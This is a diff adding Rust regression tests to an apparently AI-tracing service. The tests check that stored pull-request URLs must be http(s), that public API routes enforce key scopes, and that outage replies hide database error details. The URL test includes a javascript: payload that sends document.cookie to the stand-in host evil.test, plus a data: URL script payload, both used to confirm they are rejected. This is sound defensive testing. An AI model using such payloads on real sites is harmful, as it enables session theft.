@@ -1708,6 +1708,229 @@ async fn a_nul_character_anywhere_is_a_400_naming_the_field() {
     etl.server.shutdown().await.unwrap();
 }
 
+/// Attack: a git link's `pull_request_url` became a link in the UI whatever its scheme
+/// (`javascript:` ran when clicked). URLs stored for links must be http(s): any other is
+/// refused, naming the field (the edge answers 400 for a request of only such events).
+#[tokio::test]
+async fn a_pull_request_url_must_be_http_or_https() {
+    use agenttrace_schemas::event::{GitLink, Payload};
+    use agenttrace_schemas::{Event, Timestamp};
+    let env = TestEnv::migrated().await;
+    let etl = env.start_etl(|_| {}).await;
+    let project = env.create_project("links").await;
+    let link = |id: &str, url: &str| Event {
+        id: format!("e-{id}").into(),
+        timestamp: Timestamp::now(),
+        payload: Payload::GitLink(GitLink {
+            id: id.to_owned().into(),
+            trace_id: "trace".into(),
+            observation_id: None,
+            timestamp: None,
+            repository: "acme/app".into(),
+            branch: None,
+            commit_sha: "c0ffee1".into(),
+            message: None,
+            author: None,
+            files_changed: 0,
+            insertions: 0,
+            deletions: 0,
+            pull_request_url: Some(url.to_owned().into()),
+        }),
+    };
+    let events = [
+        link("good", "https://github.com/acme/app/pull/7"),
+        link("script", "javascript:fetch('//evil.test?'+document.cookie)"),
+        link("data", "data:text/html,<script>alert(1)</script>"),
+    ];
+    let answer = etl.load(&project.key, &events).await;
+    assert_eq!(answer.accepted, 1, "{answer:?}");
+    let rejected: Vec<(&str, &str)> = answer
+        .rejected
+        .iter()
+        .map(|r| (r.id.as_deref().unwrap_or_default(), r.field.as_str()))
+        .collect();
+    assert_eq!(
+        rejected,
+        [
+            ("e-script", "body.pull_request_url"),
+            ("e-data", "body.pull_request_url")
+        ],
+        "{answer:?}"
+    );
+    assert!(
+        answer.rejected[0].message.contains("http:// or https://"),
+        "{answer:?}"
+    );
+    let id = project.key.project_id;
+    env.wait_until(
+        &format!("SELECT groupArray(pull_request_url) FROM git_links WHERE project_id = '{id}'"),
+        "['https://github.com/acme/app/pull/7']",
+        Duration::from_secs(10),
+    )
+    .await;
+    etl.server.shutdown().await.unwrap();
+}
+
+/// Attack: `/api/public/projects` answered any key, whatever its scopes. Every `/api/public`
+/// route but the health check now requires its scope: each one, as the OpenAPI document lists
+/// them, answers 403 to a key with only `ingest`.
+#[tokio::test]
+async fn every_langfuse_route_checks_its_scope() {
+    let env = TestEnv::migrated().await;
+    let etl = env.start_etl(|_| {}).await;
+    let pg = env.postgres().await;
+    let organization = projects::ensure_organization(&pg, "scopes").await.unwrap();
+    let project = projects::create_project(&pg, organization, "scopes", None)
+        .await
+        .unwrap()
+        .id;
+    let ingest_only = api_keys::create_key(&pg, project, &[Scope::Ingest], None)
+        .await
+        .unwrap();
+    let reader = api_keys::create_key(&pg, project, &[Scope::Read], None)
+        .await
+        .unwrap();
+    let http = reqwest::Client::new();
+    let document: Value = serde_json::from_str(
+        &std::fs::read_to_string(agenttrace_tests::repo_root().join("etl/api/openapi.json")).unwrap(),
+    )
+    .unwrap();
+    let placeholders = regex::Regex::new(r"\{[^}]+\}").unwrap();
+    let mut checked = Vec::new();
+    for (path, item) in document["paths"].as_object().unwrap() {
+        if !path.starts_with("/api/public/") || path == "/api/public/health" {
+            continue;
+        }
+        for method in item.as_object().unwrap().keys() {
+            let url = format!("{}{}", etl.url, placeholders.replace_all(path, "x"));
+            let mut request = http
+                .request(method.to_uppercase().parse().unwrap(), &url)
+                .basic_auth(&ingest_only.public_key, Some(&ingest_only.secret_key));
+            if method != "get" && method != "delete" {
+                request = request.json(&json!({}));
+            }
+            let answer = request.send().await.unwrap();
+            let status = answer.status().as_u16();
+            let body = answer.text().await.unwrap();
+            assert_eq!(status, 403, "{method} {path} with an ingest-only key: {body}");
+            assert!(body.contains("lacks the"), "{method} {path}: {body}");
+            checked.push(format!("{method} {path}"));
+        }
+    }
+    assert!(
+        checked.contains(&"get /api/public/projects".to_owned()),
+        "{checked:?}"
+    );
+    assert!(checked.len() >= 10, "{checked:?}");
+    // The `read` scope is what the projects route needs.
+    let answer = http
+        .get(format!("{}/api/public/projects", etl.url))
+        .basic_auth(&reader.public_key, Some(&reader.secret_key))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(answer.status(), 200);
+    let projects: Value = answer.json().await.unwrap();
+    assert_eq!(projects["data"][0]["id"], project.to_string());
+    etl.server.shutdown().await.unwrap();
+}
+
+/// Attack: 503 answers and `/readyz` carried the databases' own errors (addresses, the
+/// driver's words). They name what failed, nothing more; the details go to the log.
+#[tokio::test]
+async fn unavailable_answers_name_the_database_and_nothing_of_its_error() {
+    use agenttrace_etl::clickhouse::{ClickHouse, ClickHouseConfig};
+    let env = TestEnv::migrated().await;
+    let pg = env.postgres().await;
+    let dead_port = {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.local_addr().unwrap().port()
+    };
+    let internals = [
+        "error connecting",
+        "onnection refused",
+        "os error",
+        "127.0.0.1",
+        &dead_port.to_string(),
+        "error sending request",
+    ];
+    let clean = |body: &str| {
+        for internal in internals {
+            assert!(!body.contains(internal), "{internal:?} in {body}");
+        }
+    };
+    let http = reqwest::Client::new();
+
+    // PostgreSQL unreachable.
+    let etl = env
+        .start_etl(|config| config.database_url = format!("postgres://postgres@127.0.0.1:{dead_port}/gone"))
+        .await;
+    let ready = http.get(format!("{}/readyz", etl.url)).send().await.unwrap();
+    assert_eq!(ready.status(), 503);
+    let ready: Value = ready.json().await.unwrap();
+    assert_eq!(ready["postgres"], "PostgreSQL is unavailable", "{ready}");
+    assert_eq!(ready["clickhouse"], "ok", "{ready}");
+    let sign_in = http
+        .post(format!("{}/v1/auth/sign-in", etl.url))
+        .json(&json!({"email": "someone@down.test", "password": PASSWORD}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(sign_in.status(), 503);
+    assert!(sign_in.headers().contains_key("retry-after"));
+    let body = sign_in.text().await.unwrap();
+    clean(&body);
+    let body: Value = serde_json::from_str(&body).unwrap();
+    assert_eq!(body["error"], "unavailable");
+    assert_eq!(body["message"], "PostgreSQL is unavailable; retry later");
+    etl.server.shutdown().await.unwrap();
+
+    // ClickHouse unreachable: readiness, and a read that needs it.
+    let etl = env
+        .start_etl(|config| {
+            config.clickhouse = ClickHouse::new(ClickHouseConfig {
+                url: format!("http://127.0.0.1:{dead_port}"),
+                database: env.name.clone(),
+                user: None,
+                password: None,
+                cluster: None,
+                node_urls: Vec::new(),
+            });
+            config.reader = config.clickhouse.reader(None);
+        })
+        .await;
+    let ready = http.get(format!("{}/readyz", etl.url)).send().await.unwrap();
+    assert_eq!(ready.status(), 503);
+    let text = ready.text().await.unwrap();
+    clean(&text);
+    let ready: Value = serde_json::from_str(&text).unwrap();
+    assert_eq!(ready["clickhouse"], "ClickHouse is unavailable", "{ready}");
+    assert_eq!(ready["postgres"], "ok", "{ready}");
+    let organization = projects::ensure_organization(&pg, "down").await.unwrap();
+    let project = projects::create_project(&pg, organization, "down", None)
+        .await
+        .unwrap()
+        .id;
+    let key = api_keys::create_key(&pg, project, &[Scope::Read], None)
+        .await
+        .unwrap();
+    let read = http
+        .get(format!("{}/v1/traces", etl.url))
+        .basic_auth(&key.public_key, Some(&key.secret_key))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(read.status(), 503);
+    let body = read.text().await.unwrap();
+    clean(&body);
+    let body: Value = serde_json::from_str(&body).unwrap();
+    assert_eq!(
+        body["message"], "ClickHouse is unavailable; retry later",
+        "{body}"
+    );
+    etl.server.shutdown().await.unwrap();
+}
+
 /// Times are selected as `timestamptz` and written in Rust; the text must be what PostgreSQL's
 /// `to_char(t AT TIME ZONE 'UTC', ...)` wrote before, truncated rather than rounded, whatever
 /// the session's time zone.
